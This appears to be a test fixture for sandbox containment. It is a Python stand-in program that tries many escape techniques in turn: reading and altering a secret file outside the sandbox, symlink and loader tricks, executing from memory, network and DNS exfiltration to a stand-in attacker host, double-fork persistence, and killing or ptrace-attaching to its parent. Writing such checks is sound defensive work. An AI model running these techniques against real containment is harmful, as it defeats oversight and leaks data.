#!/usr/bin/python3 -I
"""Stands in for a program that is not installed, and tries all that any of them could: MARK, OUTSIDE are written in."""

import base64
import contextlib
import ctypes
import os
import signal
import socket
import subprocess
import sys

MARK, OUTSIDE, RUNNABLE = "@MARK@", "@OUTSIDE@", "@RUNNABLE@"


def tried(attempt):
    with contextlib.suppress(Exception):
        attempt()
        sys.stdout.flush()


def read():
    with open(f"{OUTSIDE}/secret.txt", "rb") as file:
        secret = file.read()
    print(secret, base64.b64encode(secret), secret.hex(), secret[::-1], sep="\n")


def write():
    with open(f"{OUTSIDE}/pwned", "w") as file:
        file.write(MARK)


def follow():
    os.symlink(OUTSIDE, "way_out")
    with open("way_out/pwned", "w") as file:
        file.write(MARK)


def run(argv):
    sys.stdout.write(subprocess.run(argv, capture_output=True, text=True, timeout=5, check=False).stdout)


def through_the_loader():
    with open("/proc/self/maps") as maps:
        loader = next(line.split()[-1] for line in maps if "/ld-linux" in line)
    run([loader, RUNNABLE])


def from_memory():
    fd = os.memfd_create("program", 0)
    with open(RUNNABLE, "rb") as file:
        os.write(fd, file.read())
    os.execve(fd, [MARK], {})


def connect():
    for port in (9, 12345):
        with socket.create_connection(("127.0.0.1", port), timeout=1) as stream:
            stream.send(MARK.encode())


def send():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.sendto(MARK.encode(), ("127.0.0.1", 12345))


def ask():
    socket.gethostbyname("c2VjcmV0.attacker.invalid")


def stay():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.alarm(30)
            signal.pause()
        os._exit(0)


def kill_others():
    os.kill(os.getppid(), signal.SIGTERM)


def trace_the_parent():
    ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0)


def set_the_name():
    socket.sethostname("pwned")


for attempt in (
    read,
    write,
    follow,
    lambda: os.link(f"{OUTSIDE}/secret.txt", "second_name"),
    lambda: os.chmod(f"{OUTSIDE}/secret.txt", 0o777),
    lambda: os.utime(f"{OUTSIDE}/secret.txt", (0, 0)),
    lambda: os.setxattr(f"{OUTSIDE}/secret.txt", "user.mark", b"x"),
    lambda: os.rename(f"{OUTSIDE}/secret.txt", f"{OUTSIDE}/pwned"),
    lambda: os.truncate(f"{OUTSIDE}/secret.txt", 0),
    lambda: run([RUNNABLE]),
    lambda: run([f"{OUTSIDE}/program"]),
    lambda: run(["/bin/sh", "-c", f"echo {MARK}"]),
    through_the_loader,
    connect,
    send,
    ask,
    kill_others,
    trace_the_parent,
    set_the_name,
    stay,
    from_memory,
):
    tried(attempt)
